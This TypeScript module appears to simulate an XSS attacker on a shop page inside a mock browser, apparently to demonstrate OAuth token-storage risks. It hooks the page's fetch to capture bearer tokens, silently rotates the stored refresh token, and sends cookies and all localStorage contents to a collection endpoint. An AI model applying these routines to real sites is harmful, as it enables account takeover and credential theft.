import type { Page } from '../browser/index.ts'
import type { Report } from './collect.ts'
import { paths } from '../server/index.ts'
import { COLLECT } from './addresses.ts'
import { tokensInBody } from './tokensIn.ts'

/**
 * The script that Mallory got into the shop's page (XSS). It has exactly the powers of the page's own scripts: it reads
 * what they may read and sends it home, where the answer does not matter.
 */
export const injectedScript = (page: Page): Promise<unknown> => sendHome(page, page.fetch, null)

/**
 * Where the token is in no place that another script can name, it still has to go through the page's `fetch`: this one
 * puts its own in that place and waits for the next request. It is there for as long as the page is.
 */
export function hookFetch(page: Page): void {
  const { fetch } = page
  page.fetch = async (url, init = {}) => {
    const answer = await fetch(url, init)
    const [scheme, token] = (init.headers?.Authorization ?? '').split(' ')
    if (scheme && token) {
      page.fetch = fetch
      await sendHome(page, fetch, token)
    }
    return answer
  }
}

/**
 * It asks for a new access token, as the page itself does when the old one has expired: what HttpOnly keeps it from
 * reading, the browser sends along (OAuth for Browser-Based Apps §5.1.2). So it is in for as long as the page is open.
 */
export async function renewInPage(page: Page): Promise<void> {
  const stored = page.localStorage.getItem('refresh_token')
  const form = new URLSearchParams({ grant_type: 'refresh_token', refresh_token: stored ?? '' }).toString()
  const answer = await page.fetch(paths.refresh, {
    method: 'POST',
    ...(stored === null ? {} : { headers: { 'Content-Type': 'application/x-www-form-urlencoded' }, body: form }),
  })
  const { access, refresh } = tokensInBody(answer.body)
  // The page's own copy is of no use any more: he leaves it the new one, and nobody notices.
  if (refresh !== undefined) page.localStorage.setItem('refresh_token', refresh)
  await sendHome(page, page.fetch, access ?? null)
}

function sendHome(page: Page, fetch: Page['fetch'], overheard: string | null) {
  const report: Report = { origin: page.origin, cookies: page.cookie, localStorage: everythingIn(page), overheard }
  return fetch(COLLECT, { method: 'POST', mode: 'no-cors', body: JSON.stringify(report) })
}

/** It knows no names, and needs none (HTML §12.2.1, `key`). */
export function everythingIn({ localStorage }: Page): Report['localStorage'] {
  const items: [string, string][] = []
  for (let key = localStorage.key(0); key !== null; key = localStorage.key(items.length)) {
    items.push([key, localStorage.getItem(key) ?? ''])
  }
  return Object.fromEntries(items)
}
